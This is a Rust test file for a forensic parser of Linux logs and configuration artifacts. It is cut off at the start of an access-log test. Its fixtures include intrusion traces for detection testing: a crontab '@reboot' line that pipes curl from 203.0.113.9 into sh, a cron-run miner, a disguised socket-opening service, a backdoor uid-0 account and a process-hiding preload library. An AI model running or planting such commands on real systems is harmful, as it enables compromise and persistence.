//! The Linux artifact parsers over inputs built by the real tools where one exists
//! (`utmpdump -r`, `systemd-journal-remote`, `ssh-keygen`), the loghub Linux syslog
//! sample from the shared corpus (research-only licence: read in place, never copied),
//! and realistic hand-written samples for the text formats without a writer tool.
//!
//! Tests that need a tool skip (with a note on stderr) when it is not installed.

use chrono::{DateTime, TimeZone, Utc};
use riposte_artifacts::{ArtifactContext, ArtifactError, open_artifact, parser_for, parsers};
use riposte_model::{Action, Event};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

fn parse_with(
    original_path: &str,
    bytes: &[u8],
    modified: Option<DateTime<Utc>>,
) -> Vec<Result<Event, ArtifactError>> {
    let parser =
        parser_for(original_path).unwrap_or_else(|| panic!("no parser claims {original_path}"));
    let ctx = ArtifactContext {
        host: "web1".into(),
        original_path: original_path.into(),
        modified,
    };
    parser
        .parse(&ctx, open_artifact(bytes).expect("readable"))
        .collect()
}

fn parse(original_path: &str, bytes: &[u8]) -> Vec<Result<Event, ArtifactError>> {
    parse_with(original_path, bytes, None)
}

/// The events, after checking that exactly the expected records failed.
fn split(results: Vec<Result<Event, ArtifactError>>, bad_records: &[u64]) -> Vec<Event> {
    let mut failed = Vec::new();
    let mut events = Vec::new();
    for r in results {
        match r {
            Ok(e) => events.push(e),
            Err(ArtifactError::Record { record, .. }) => failed.push(record),
            Err(e) => panic!("unexpected read error: {e}"),
        }
    }
    assert_eq!(failed, bad_records, "records that failed");
    events
}

fn utc(s: &str) -> DateTime<Utc> {
    DateTime::parse_from_rfc3339(s).unwrap().with_timezone(&Utc)
}

/// The tool's path; the test fails, naming the Debian package, when it is missing
/// (`scripts/test.sh` installs them).
fn tool(name: &str) -> PathBuf {
    let candidates = [
        PathBuf::from(name),
        Path::new("/usr/bin").join(name),
        Path::new("/usr/lib/systemd").join(name),
        Path::new("/lib/systemd").join(name),
    ];
    let found = candidates.into_iter().find(|p| {
        Command::new(p)
            .arg("--help")
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status()
            .is_ok()
    });
    let package = match name {
        "systemd-journal-remote" => "systemd-journal-remote",
        "journalctl" => "systemd",
        "ssh-keygen" => "openssh-client",
        _ => "util-linux",
    };
    found.unwrap_or_else(|| panic!("{name} is not installed: install the Debian package {package}"))
}

/// Runs `cmd` with `stdin`, returning stdout.
fn run(cmd: &mut Command, stdin: &[u8]) -> Vec<u8> {
    use std::io::Write;
    let mut child = cmd
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .expect("spawn");
    child.stdin.take().unwrap().write_all(stdin).unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success(), "{cmd:?} failed");
    out.stdout
}

// ---------------------------------------------------------------- utmp

const WTMP_DUMP: &str = "\
[2] [00000] [~~  ] [reboot  ] [~           ] [6.1.0-18-amd64      ] [0.0.0.0        ] [2023-11-14T22:00:00,000000+00:00]
[1] [00053] [~~  ] [runlevel] [~           ] [6.1.0-18-amd64      ] [0.0.0.0        ] [2023-11-14T22:00:05,000000+00:00]
[7] [04242] [ts/0] [bob     ] [pts/0       ] [10.0.0.5            ] [10.0.0.5       ] [2023-11-14T22:13:20,123456+00:00]
[7] [04300] [ts/1] [alice   ] [pts/1       ] [2001:db8::7         ] [2001:db8::7    ] [2023-11-14T22:20:00,000000+00:00]
[8] [04242] [ts/0] [        ] [pts/0       ] [                    ] [0.0.0.0        ] [2023-11-14T23:00:00,000000+00:00]
[1] [00000] [~~  ] [shutdown] [~~          ] [6.1.0-18-amd64      ] [0.0.0.0        ] [2023-11-15T01:00:00,000000+00:00]
";

#[test]
fn wtmp_written_by_utmpdump_matches_last() {
    let (utmpdump, last) = (tool("utmpdump"), tool("last"));
    let wtmp = run(Command::new(utmpdump).arg("-r"), WTMP_DUMP.as_bytes());
    assert_eq!(wtmp.len(), 6 * 384);
    let events = split(parse("/var/log/wtmp", &wtmp), &[]);
    assert_eq!(events.len(), 6);
    let actions: Vec<Action> = events.iter().map(|e| e.action).collect();
    assert_eq!(
        actions,
        [
            Action::HostInfo,
            Action::HostInfo,
            Action::UserLogon,
            Action::UserLogon,
            Action::UserLogoff,
            Action::HostInfo
        ]
    );
    assert_eq!(events[0].message, "System boot (6.1.0-18-amd64)");
    assert_eq!(events[1].message, "Runlevel changed to 5 (from N)");
    assert_eq!(events[5].message, "System shutdown");
    let bob = &events[2];
    assert_eq!(bob.time, Some(utc("2023-11-14T22:13:20.123456Z")));
    assert_eq!(bob.attr("username"), Some("bob"));
    assert_eq!(bob.attr("tty"), Some("pts/0"));
    assert_eq!(bob.attr("remote_ip"), Some("10.0.0.5"));
    assert_eq!(bob.attr("pid"), Some("4242"));
    assert_eq!(events[3].attr("ut_addr"), Some("2001:db8::7"));
    assert_eq!(events[4].attr("tty"), Some("pts/0"));
    assert_eq!(events[4].time, Some(utc("2023-11-14T23:00:00Z")));

    // Cross-check the logons with `last`: same users, ttys, hosts and start times.
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("wtmp");
    std::fs::write(&file, &wtmp).unwrap();
    let out = run(
        Command::new(last)
            .args(["-f"])
            .arg(&file)
            .args(["--time-format", "iso", "-w"]),
        b"",
    );
    let text = String::from_utf8(out).unwrap();
    let mut from_last: Vec<(String, String, String, DateTime<Utc>)> = text
        .lines()
        .filter(|l| !l.starts_with("reboot") && !l.is_empty() && !l.starts_with("wtmp begins"))
        .map(|l| {
            let w: Vec<&str> = l.split_whitespace().collect();
            (w[0].into(), w[1].into(), w[2].into(), utc(w[3]))
        })
        .collect();
    from_last.sort_by_key(|t| t.3);
    let ours: Vec<(String, String, String, DateTime<Utc>)> = events
        .iter()
        .filter(|e| e.action == Action::UserLogon)
        .map(|e| {
            let t = e.time.unwrap();
            (
                e.attr("username").unwrap().into(),
                e.attr("tty").unwrap().into(),
                e.attr("ut_host").unwrap().into(),
                Utc.timestamp_opt(t.timestamp(), 0).unwrap(),
            )
        })
        .collect();
    assert_eq!(from_last, ours);

    // A record of an unknown type in the middle and a torn last record.
    let mut corrupt = wtmp[..2 * 384].to_vec();
    corrupt.extend([0xffu8; 384]);
    corrupt.extend(&wtmp[2 * 384..]);
    corrupt.extend([7u8, 0, 0]);
    let events = split(parse("/var/log/wtmp.1", &corrupt), &[3, 8]);
    assert_eq!(events.len(), 6);
    assert_eq!(events[2].attr("username"), Some("bob"));
}

#[test]
fn btmp_written_by_utmpdump_is_failed_logons() {
    let utmpdump = tool("utmpdump");
    let dump = "\
[6] [05000] [    ] [admin   ] [ssh:notty   ] [203.0.113.9         ] [203.0.113.9    ] [2023-11-14T22:05:00,000000+00:00]
[6] [05001] [    ] [root    ] [ssh:notty   ] [203.0.113.9         ] [203.0.113.9    ] [2023-11-14T22:05:03,000000+00:00]
";
    let btmp = run(Command::new(utmpdump).arg("-r"), dump.as_bytes());
    let events = split(parse("/var/log/btmp", &btmp), &[]);
    assert_eq!(events.len(), 2);
    assert!(events.iter().all(|e| e.action == Action::UserLogonFailed));
    assert_eq!(events[1].attr("username"), Some("root"));
    assert_eq!(events[1].attr("remote_ip"), Some("203.0.113.9"));
    assert_eq!(events[1].time, Some(utc("2023-11-14T22:05:03Z")));
}

// ---------------------------------------------------------------- lastlog

#[test]
fn lastlog_records_are_indexed_by_uid() {
    let record = |sec: u32, line: &str, host: &str| {
        let mut b = vec![0u8; 292];
        b[..4].copy_from_slice(&sec.to_le_bytes());
        b[4..4 + line.len()].copy_from_slice(line.as_bytes());
        b[36..36 + host.len()].copy_from_slice(host.as_bytes());
        b
    };
    let mut file = record(1_700_000_000, "pts/0", "198.51.100.7");
    file.extend(vec![0u8; 292 * 998]);
    file.extend(record(0, "\u{1}\u{2}garbage", "x")); // uid 999
    file.extend(record(1_700_000_600, "tty1", "")); // uid 1000
    let events = split(parse("/var/log/lastlog", &file), &[1000]);
    assert_eq!(events.len(), 2);
    assert_eq!(events[0].attr("uid"), Some("0"));
    assert_eq!(events[0].attr("remote_ip"), Some("198.51.100.7"));
    assert_eq!(events[1].attr("uid"), Some("1000"));
    assert_eq!(events[1].attr("tty"), Some("tty1"));
    assert_eq!(events[1].time, Some(utc("2023-11-14T22:23:20Z")));
    assert_eq!(events[1].action, Action::UserLogon);
}

// ---------------------------------------------------------------- auditd

const AUDIT_LOG: &str = "\
type=SYSCALL msg=audit(1364481363.243:24287): arch=c000003e syscall=2 success=no exit=-13 a0=7fffd19c5592 a1=0 a2=7fffd19c4b50 a3=a items=1 ppid=2686 pid=3538 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=1 comm=\"cat\" exe=\"/bin/cat\" subj=unconfined_u:unconfined_r:unconfined_t:s0-s0:c0.c1023 key=\"sshd_config\"
type=CWD msg=audit(1364481363.243:24287):  cwd=\"/home/shadowman\"
type=PATH msg=audit(1364481363.243:24287): item=0 name=\"/etc/ssh/sshd_config\" inode=409248 dev=fd:00 mode=0100600 ouid=0 ogid=0 rdev=00:00 obj=system_u:object_r:etc_t:s0 objtype=NORMAL cap_fp=none cap_fi=none cap_fe=0 cap_fver=0
type=PROCTITLE msg=audit(1364481363.243:24287): proctitle=636174002F6574632F7373682F737368645F636F6E666967
type=SYSCALL msg=audit(1700000000.123:456): arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55d1 a2=55d2 a3=0 items=2 ppid=1000 pid=4242 auid=1000 uid=0 gid=0 euid=0 ses=3 tty=pts0 comm=\"curl\" exe=\"/usr/bin/curl\" key=\"exec\"
type=EXECVE msg=audit(1700000000.123:456): argc=4 a0=\"curl\" a1=\"-s\" a2=\"http://203.0.113.9/x.sh\" a3=2D6F202F746D702F7820792E7368
type=CWD msg=audit(1700000000.123:456): cwd=\"/tmp\"
this is not an audit record
type=USER_LOGIN msg=audit(1700000100.000:500): pid=5000 uid=0 auid=4294967295 ses=4294967295 msg='op=login acct=\"admin\" exe=\"/usr/sbin/sshd\" hostname=? addr=203.0.113.9 terminal=sshd res=failed'
type=USER_LOGIN msg=audit(1700000110.000:501): pid=5001 uid=0 auid=0 ses=5 msg='op=login id=0 exe=\"/usr/sbin/sshd\" hostname=10.0.0.5 addr=10.0.0.5 terminal=/dev/pts/1 res=success'
type=USER_AUTH msg=audit(1700000105.000:502): pid=5002 uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:authentication grantors=pam_unix acct=726F6F74 exe=\"/usr/sbin/sshd\" hostname=10.0.0.5 addr=10.0.0.5 terminal=ssh res=success'
type=USER_CMD msg=audit(1700000200.500:510): pid=6000 uid=1000 auid=1000 ses=3 msg='cwd=\"/home/bob\" cmd=636174202F6574632F736861646F77 exe=\"/usr/bin/sudo\" terminal=pts/0 res=success'\x1dUID=\"bob\" AUID=\"bob\"
type=ADD_USER msg=audit(1700000300.000:520): pid=7000 uid=0 auid=1000 ses=3 msg='op=add-user acct=\"eve\" exe=\"/usr/sbin/useradd\" hostname=web1 addr=? terminal=pts/0 res=success'
node=web1 type=EXECVE msg=audit(1700000400.000:530): argc=2 a0=\"echo\" a1_len=10 a1[0]=68656C6C6F a1[1]=776F726C64
type=EXECVE msg=audit(garbage:531): argc=1 a0=\"x\"
";

#[test]
fn auditd_groups_records_by_serial() {
    let events = split(
        parse("/var/log/audit/audit.log", AUDIT_LOG.as_bytes()),
        &[8, 15],
    );
    assert_eq!(events.len(), 8);
    let open = &events[0];
    assert_eq!(open.action, Action::HostInfo);
    assert_eq!(open.attr("audit_types"), Some("SYSCALL,CWD,PATH,PROCTITLE"));
    assert_eq!(open.attr("key"), Some("sshd_config"));
    assert_eq!(open.attr("proctitle"), Some("cat /etc/ssh/sshd_config"));
    assert_eq!(open.time, Some(utc("2013-03-28T14:36:03.243Z")));
    assert_eq!(open.raw.lines().count(), 4);

    let exec = &events[1];
    assert_eq!(exec.action, Action::ProcessRun);
    assert_eq!(
        exec.attr("cmd"),
        Some("curl -s http://203.0.113.9/x.sh '-o /tmp/x y.sh'")
    );
    assert_eq!(exec.attr("pid"), Some("4242"));
    assert_eq!(exec.attr("exe"), Some("/usr/bin/curl"));
    assert_eq!(exec.attr("cwd"), Some("/tmp"));
    assert_eq!(exec.attr("audit_serial"), Some("456"));
    assert_eq!(exec.origin.record, Some(5));

    let failed = &events[2];
    assert_eq!(failed.action, Action::UserLogonFailed);
    assert_eq!(failed.attr("username"), Some("admin"));
    assert_eq!(failed.attr("remote_ip"), Some("203.0.113.9"));
    let login = &events[3];
    assert_eq!(login.action, Action::UserLogon);
    assert_eq!(login.attr("username"), Some("root"));
    assert_eq!(login.attr("stage"), Some("login"));
    let auth = &events[4];
    assert_eq!(
        (auth.action, auth.attr("username")),
        (Action::UserLogon, Some("root"))
    );
    assert_eq!(auth.attr("stage"), Some("auth"));

    let sudo = &events[5];
    assert_eq!(sudo.action, Action::ProcessRun);
    assert_eq!(sudo.attr("cmd"), Some("cat /etc/shadow"));
    assert_eq!(sudo.attr("username"), Some("bob"));
    assert_eq!(sudo.attr("cwd"), Some("/home/bob"));

    assert_eq!(events[6].action, Action::UserCreate);
    assert_eq!(events[6].attr("username"), Some("eve"));
    assert_eq!(events[7].attr("cmd"), Some("echo helloworld"));
    assert_eq!(events[7].attr("host_name"), Some("web1"));
}

// ---------------------------------------------------------------- journald

/// A `journalctl -o export` style stream; `systemd-journal-remote` turns it into a file.
const JOURNAL_EXPORT: &str = "\
__REALTIME_TIMESTAMP=1700000000123456
__MONOTONIC_TIMESTAMP=12345
_BOOT_ID=0123456789abcdef0123456789abcdef
_HOSTNAME=web1
SYSLOG_IDENTIFIER=sshd
_PID=4242
_UID=0
_COMM=sshd
_EXE=/usr/sbin/sshd
_CMDLINE=sshd: bob [priv]
PRIORITY=6
MESSAGE=Accepted password for bob from 10.0.0.5 port 50000 ssh2

__REALTIME_TIMESTAMP=1700000001000001
__MONOTONIC_TIMESTAMP=12346
_BOOT_ID=0123456789abcdef0123456789abcdef
_HOSTNAME=web1
SYSLOG_IDENTIFIER=sudo
_PID=4300
_UID=1000
_COMM=sudo
_CMDLINE=sudo /bin/sh
MESSAGE=    bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/sh

__REALTIME_TIMESTAMP=1700000060000000
__MONOTONIC_TIMESTAMP=72345
_BOOT_ID=0123456789abcdef0123456789abcdef
_HOSTNAME=web1
SYSLOG_IDENTIFIER=CRON
_PID=4400
MESSAGE=(root) CMD (/tmp/.x/run.sh)

__REALTIME_TIMESTAMP=1700000120000000
__MONOTONIC_TIMESTAMP=132345
_BOOT_ID=0123456789abcdef0123456789abcdef
_HOSTNAME=web1
_TRANSPORT=kernel
MESSAGE=usb 1-1: new high-speed USB device number 2 using xhci_hcd

";

#[test]
fn journal_written_by_systemd_journal_remote_matches_journalctl() {
    let (remote, journalctl) = (tool("systemd-journal-remote"), tool("journalctl"));
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("out.journal");
    run(
        Command::new(remote).arg("-o").arg(&file).arg("-"),
        JOURNAL_EXPORT.as_bytes(),
    );
    let bytes = std::fs::read(&file).unwrap();
    let events = split(
        parse("/var/log/journal/0123456789abcdef/system.journal", &bytes),
        &[],
    );
    assert_eq!(events.len(), 4);

    // journalctl's view of the same file: times and messages, in order.
    let json = run(
        Command::new(journalctl)
            .arg("--file")
            .arg(&file)
            .args(["-o", "json", "--no-pager"]),
        b"",
    );
    let theirs: Vec<(i64, String)> = String::from_utf8(json)
        .unwrap()
        .lines()
        .map(|l| {
            let v: serde_json::Value = serde_json::from_str(l).unwrap();
            (
                v["__REALTIME_TIMESTAMP"].as_str().unwrap().parse().unwrap(),
                v["MESSAGE"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    let ours: Vec<(i64, String)> = events
        .iter()
        .map(|e| {
            (
                e.time.unwrap().timestamp_micros(),
                e.attr("message").unwrap().to_string(),
            )
        })
        .collect();
    assert_eq!(ours, theirs);

    let sshd = &events[0];
    assert_eq!(sshd.action, Action::UserLogon);
    assert_eq!(sshd.attr("username"), Some("bob"));
    assert_eq!(sshd.time, Some(utc("2023-11-14T22:13:20.123456Z")));
    assert_eq!(sshd.attr("host_name"), Some("web1"));
    assert_eq!(sshd.attr("process"), Some("sshd"));
    assert_eq!(sshd.attr("pid"), Some("4242"));
    assert_eq!(sshd.attr("uid"), Some("0"));
    assert_eq!(sshd.attr("exe"), Some("/usr/sbin/sshd"));
    assert_eq!(sshd.attr("cmdline"), Some("sshd: bob [priv]"));
    assert!(sshd.raw.contains("MESSAGE=Accepted password for bob"));
    let sudo = &events[1];
    assert_eq!(sudo.action, Action::UserPrivilege);
    assert_eq!(sudo.attr("cmd"), Some("/bin/sh"));
    assert_eq!(sudo.attr("username"), Some("bob"));
    assert_eq!(events[2].action, Action::ProcessRun);
    assert_eq!(events[2].attr("cmd"), Some("/tmp/.x/run.sh"));
    assert_eq!(events[3].attr("transport"), Some("kernel"));

    // A corrupted copy never panics; truncated to its header it is an error.
    let results = parse("/var/log/journal/x/system.journal", &bytes[..300]);
    assert!(results.iter().any(Result::is_err));
    let mut flipped = bytes.clone();
    for i in (4096..flipped.len().min(40_000)).step_by(97) {
        flipped[i] ^= 0x5a;
    }
    let _ = parse("/var/log/journal/x/system.journal", &flipped);
}

// ---------------------------------------------------------------- syslog

fn corpus() -> PathBuf {
    let dir = std::env::var_os("RIPOSTE_CORPUS")
        .map(PathBuf::from)
        .unwrap_or_else(|| {
            PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../shared/corpus")
        });
    assert!(
        dir.join("linux-logs/loghub").is_dir(),
        "test corpus not found at {}: set RIPOSTE_CORPUS",
        dir.display()
    );
    dir
}

/// Expected counts established with grep:
/// - 2000 lines (`wc -l` says 1999: the last line has no newline), none blank, all with
///   an RFC 3164 header;
/// - `grep -c 'su(pam_unix)\[[0-9]*\]: session opened for user'` → 86.
#[test]
fn loghub_linux_messages() {
    let bytes = std::fs::read(corpus().join("linux-logs/loghub/Linux/Linux_2k.log")).unwrap();
    let modified = Utc.with_ymd_and_hms(2005, 12, 31, 0, 0, 0).unwrap();
    let events = split(parse_with("/var/log/messages", &bytes, Some(modified)), &[]);
    assert_eq!(events.len(), 2000);
    let su: Vec<&Event> = events
        .iter()
        .filter(|e| e.action == Action::UserPrivilege)
        .collect();
    assert_eq!(su.len(), 86);
    // Every line the auth.log parser reads as a user event reads the same here; the rest
    // are host events.
    let auth = parse_with("/var/log/auth.log", &bytes, Some(modified));
    let by_record: std::collections::HashMap<u64, Action> = auth
        .into_iter()
        .filter_map(Result::ok)
        .map(|e| (e.origin.record.unwrap(), e.action))
        .collect();
    assert!(by_record.len() > 600, "{}", by_record.len());
    for e in &events {
        let expected = by_record
            .get(&e.origin.record.unwrap())
            .copied()
            .unwrap_or(Action::HostInfo);
        assert_eq!(e.action, expected, "line {:?}", e.origin.record);
    }
    assert_eq!(
        events
            .iter()
            .filter(|e| e.action == Action::UserLogonFailed)
            .count(),
        490,
        "`grep -c 'authentication failure'`"
    );
    let first_su = su[0];
    assert_eq!(first_su.origin.record, Some(14));
    assert_eq!(first_su.time, Some(utc("2005-06-15T04:06:18Z")));
    assert_eq!(first_su.attr("target_user"), Some("cyrus"));
    assert_eq!(first_su.attr("by_uid"), Some("0"));
    assert_eq!(first_su.attr("pid"), Some("21416"));
    let first = &events[0];
    assert_eq!(first.attr("process"), Some("sshd(pam_unix)"));
    assert_eq!(first.attr("host_name"), Some("combo"));
    assert_eq!(first.time, Some(utc("2005-06-14T15:16:01Z")));
    assert_eq!(
        events
            .iter()
            .filter(|e| e.attr("process") == Some("kernel"))
            .count(),
        76
    );
    assert_eq!(events[1999].time, Some(utc("2005-07-27T14:42:00Z")));
}

#[test]
fn syslog_sudo_cron_useradd_and_a_bad_line() {
    let log = "\
2024-03-01T10:00:00.000000+01:00 web1 sudo:      bob : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh
2024-03-01T10:00:01.000000+01:00 web1 CRON[900]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)
not a syslog line
Mar  1 10:00:03 web1 useradd[901]: new user: name=eve, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0
Mar  1 10:00:04 web1 kernel: [ 12.345] EXT4-fs (sda1): mounted filesystem
";
    let modified = Utc.with_ymd_and_hms(2024, 3, 2, 0, 0, 0).unwrap();
    let events = split(
        parse_with("/var/log/syslog.1", log.as_bytes(), Some(modified)),
        &[3],
    );
    assert_eq!(events.len(), 4);
    assert_eq!(events[0].action, Action::UserPrivilege);
    assert_eq!(events[0].attr("cmd"), Some("/bin/sh"));
    assert_eq!(events[0].attr("username"), Some("bob"));
    assert_eq!(events[0].time, Some(utc("2024-03-01T09:00:00Z")));
    assert_eq!(
        events[1].attr("cmd"),
        Some("cd / && run-parts --report /etc/cron.hourly")
    );
    assert_eq!(events[2].action, Action::UserCreate);
    assert_eq!(events[2].attr("uid"), Some("0"));
    assert_eq!(events[3].action, Action::HostInfo);
    assert!(parser_for("/var/log/auth.log").unwrap().name() == "auth_log");
    assert!(parser_for("/var/log/secure").unwrap().name() == "auth_log");
}

// ---------------------------------------------------------------- cron

#[test]
fn system_and_user_crontabs() {
    // Debian's default /etc/crontab plus a planted job.
    let crontab = "\
# /etc/crontab: system-wide crontab
SHELL=/bin/sh
PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin

# Example of job definition:
# .---------------- minute (0 - 59)
# m h dom mon dow user\tcommand
17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly
25 6\t* * *\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }
47 6\t* * 7\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.weekly; }
52 6\t1 * *\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.monthly; }
@reboot root /usr/bin/curl -s http://203.0.113.9/p | sh
this line is broken
";
    let events = split(parse("/etc/crontab", crontab.as_bytes()), &[13]);
    assert_eq!(events.len(), 5);
    assert!(
        events
            .iter()
            .all(|e| e.time.is_none() && e.action == Action::HostInfo)
    );
    assert_eq!(events[0].attr("schedule"), Some("17 * * * *"));
    assert_eq!(events[0].attr("username"), Some("root"));
    assert_eq!(
        events[0].attr("cmd"),
        Some("cd / && run-parts --report /etc/cron.hourly")
    );
    assert_eq!(events[4].attr("schedule"), Some("@reboot"));
    assert_eq!(events[4].attr("file_name"), Some("curl"));

    let user = "MAILTO=\"\"\n*/5 * * * * /home/bob/.cache/.x/miner -o pool:3333 >/dev/null 2>&1\n";
    let events = split(parse("/var/spool/cron/crontabs/bob", user.as_bytes()), &[]);
    assert_eq!(events.len(), 1);
    assert_eq!(events[0].attr("username"), Some("bob"));
    assert_eq!(events[0].attr("schedule"), Some("*/5 * * * *"));
    assert_eq!(events[0].attr("file_name"), Some("miner"));
}

// ---------------------------------------------------------------- systemd units

#[test]
fn service_and_timer_units() {
    let service = "\
[Unit]
Description=System update helper
After=network-online.target

[Service]
Type=simple
User=nobody
ExecStartPre=-/bin/mkdir -p /var/tmp/.u
ExecStart=/usr/bin/python3 -c \\
    'import socket,os;s=socket.socket()'
Restart=always
this is not a key

[Install]
WantedBy=multi-user.target
";
    let path = "/etc/systemd/system/multi-user.target.wants/update-helper.service";
    let events = split(parse(path, service.as_bytes()), &[12]);
    assert_eq!(events.len(), 1);
    let e = &events[0];
    assert_eq!(e.time, None);
    assert_eq!(e.attr("unit"), Some("update-helper.service"));
    assert_eq!(
        e.attr("cmd"),
        Some("/usr/bin/python3 -c 'import socket,os;s=socket.socket()'")
    );
    assert_eq!(e.attr("file_name"), Some("python3"));
    assert_eq!(e.attr("username"), Some("nobody"));
    assert_eq!(e.attr("exec_start_pre"), Some("-/bin/mkdir -p /var/tmp/.u"));
    assert_eq!(e.attr("wanted_by"), Some("multi-user.target"));
    assert_eq!(e.attr("description"), Some("System update helper"));

    let timer = "[Unit]\nDescription=Daily apt download activities\n\n[Timer]\nOnCalendar=*-*-* 6,18:00\nRandomizedDelaySec=12h\nPersistent=true\n\n[Install]\nWantedBy=timers.target\n";
    let events = split(
        parse("/usr/lib/systemd/system/apt-daily.timer", timer.as_bytes()),
        &[],
    );
    assert_eq!(events.len(), 1);
    assert_eq!(events[0].attr("on_calendar"), Some("*-*-* 6,18:00"));
    assert_eq!(events[0].attr("unit_type"), Some("timer"));

    let user_unit = "[Service]\nExecStart=%h/.local/bin/agent\n";
    let events = split(
        parse(
            "/home/bob/.config/systemd/user/agent.service",
            user_unit.as_bytes(),
        ),
        &[],
    );
    assert_eq!(events[0].attr("username"), Some("bob"));
}

// ---------------------------------------------------------------- authorized_keys

#[test]
fn authorized_keys_fingerprints_match_ssh_keygen() {
    let keygen = tool("ssh-keygen");
    let dir = tempfile::tempdir().unwrap();
    let mut lines = Vec::new();
    for (kind, bits, comment) in [
        ("ed25519", None, "bob@laptop"),
        ("rsa", Some("3072"), "deploy key"),
        ("ecdsa", Some("384"), ""),
    ] {
        let key = dir.path().join(kind);
        let mut cmd = Command::new(&keygen);
        cmd.args(["-q", "-N", "", "-t", kind, "-C", comment, "-f"])
            .arg(&key);
        if let Some(b) = bits {
            cmd.args(["-b", b]);
        }
        run(&mut cmd, b"");
        lines.push(
            std::fs::read_to_string(key.with_extension("pub"))
                .unwrap()
                .trim()
                .to_string(),
        );
    }
    let text = format!(
        "# keys\n{}\ncommand=\"/usr/local/bin/backup --run\",no-pty,from=\"10.0.0.0/8\" {}\nssh-ed25519 AAAA!!!notbase64 broken\n{}\n",
        lines[0], lines[1], lines[2]
    );
    let file = dir.path().join("authorized_keys");
    std::fs::write(&file, &text).unwrap();
    let events = split(
        parse("/home/bob/.ssh/authorized_keys", text.as_bytes()),
        &[4],
    );
    assert_eq!(events.len(), 3);

    // `ssh-keygen -lf` prints "<bits> <fingerprint> <comment> (<TYPE>)" per key.
    let listing = String::from_utf8(run(Command::new(&keygen).arg("-lf").arg(&file), b"")).unwrap();
    let theirs: Vec<(String, String)> = listing
        .lines()
        .map(|l| {
            let w: Vec<&str> = l.split_whitespace().collect();
            (w[0].to_string(), w[1].to_string())
        })
        .collect();
    let ours: Vec<(String, String)> = events
        .iter()
        .map(|e| {
            (
                e.attr("key_bits").unwrap().to_string(),
                e.attr("fingerprint").unwrap().to_string(),
            )
        })
        .collect();
    assert_eq!(ours, theirs);

    assert!(
        events
            .iter()
            .all(|e| e.attr("username") == Some("bob") && e.time.is_none())
    );
    assert_eq!(events[0].attr("key_type"), Some("ssh-ed25519"));
    assert_eq!(events[0].attr("comment"), Some("bob@laptop"));
    assert_eq!(
        events[1].attr("command"),
        Some("/usr/local/bin/backup --run")
    );
    assert_eq!(events[1].attr("from"), Some("10.0.0.0/8"));
    assert_eq!(events[1].attr("comment"), Some("deploy key"));
    assert_eq!(events[2].attr("key_type"), Some("ecdsa-sha2-nistp384"));
    assert_eq!(events[2].attr("comment"), None);
}

// ---------------------------------------------------------------- accounts

#[test]
fn passwd_shadow_and_group() {
    let passwd = "\
root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
bob:x:1000:1000:Bob,,,:/home/bob:/bin/bash
toor:x:0:0::/root:/bin/sh
broken:x:abc:1::/:/bin/sh
sshd:x:110:65534::/run/sshd:/usr/sbin/nologin
";
    let events = split(parse("/etc/passwd", passwd.as_bytes()), &[5]);
    assert_eq!(events.len(), 5);
    assert_eq!(events[0].attr("findings"), Some("login_shell"));
    assert_eq!(events[1].attr("login_shell"), Some("false"));
    assert_eq!(events[1].attr("findings"), None);
    assert_eq!(events[2].attr("gecos"), Some("Bob,,,"));
    assert_eq!(
        events[3].attr("findings"),
        Some("uid0_not_root,login_shell")
    );
    assert_eq!(events[3].attr("uid"), Some("0"));

    let shadow = "\
root:$y$j9T$abcdefgh$0123456789abcdefghijklmnopqrstuvwxyzABCDEFG:19675:0:99999:7:::
daemon:*:19675:0:99999:7:::
bob:!$6$salt$hash:19700:0:99999:7:::
eve::19701:0:99999:7:::
bad line
";
    let events = split(parse("/etc/shadow", shadow.as_bytes()), &[5]);
    assert_eq!(events.len(), 4);
    assert_eq!(events[0].action, Action::UserModify);
    assert_eq!(events[0].time, Some(utc("2023-11-14T00:00:00Z")));
    assert_eq!(events[0].attr("hash_type"), Some("yescrypt"));
    assert_eq!(events[0].attr("password_state"), Some("set"));
    assert!(!events[0].raw.contains("abcdefgh"), "hash must be redacted");
    assert_eq!(events[1].attr("password_state"), Some("no_password"));
    assert_eq!(events[2].attr("password_state"), Some("locked"));
    assert_eq!(events[3].attr("findings"), Some("empty_password"));

    let group = "root:x:0:\nsudo:x:27:bob,eve\nbob:x:1000:\nweird\n";
    let events = split(parse("/etc/group", group.as_bytes()), &[4]);
    assert_eq!(events.len(), 3);
    assert_eq!(events[1].attr("members"), Some("bob,eve"));
    assert_eq!(events[1].attr("findings"), Some("privileged_group_members"));
}

// ---------------------------------------------------------------- ld.so.preload

#[test]
fn ld_so_preload_entries() {
    let text = "/usr/local/lib/libprocesshider.so\n\x01\x02bin\n# comment\n/lib/x86_64-linux-gnu/libsnoopy.so\n";
    let events = split(parse("/etc/ld.so.preload", text.as_bytes()), &[2]);
    assert_eq!(events.len(), 2);
    assert_eq!(events[0].action, Action::FileExists);
    assert_eq!(events[0].attr("file_name"), Some("libprocesshider.so"));
    assert_eq!(
        events[1].attr("file_path"),
        Some("/lib/x86_64-linux-gnu/libsnoopy.so")
    );
}

// ---------------------------------------------------------------- web access

#[test]
fn combined_access_log() {
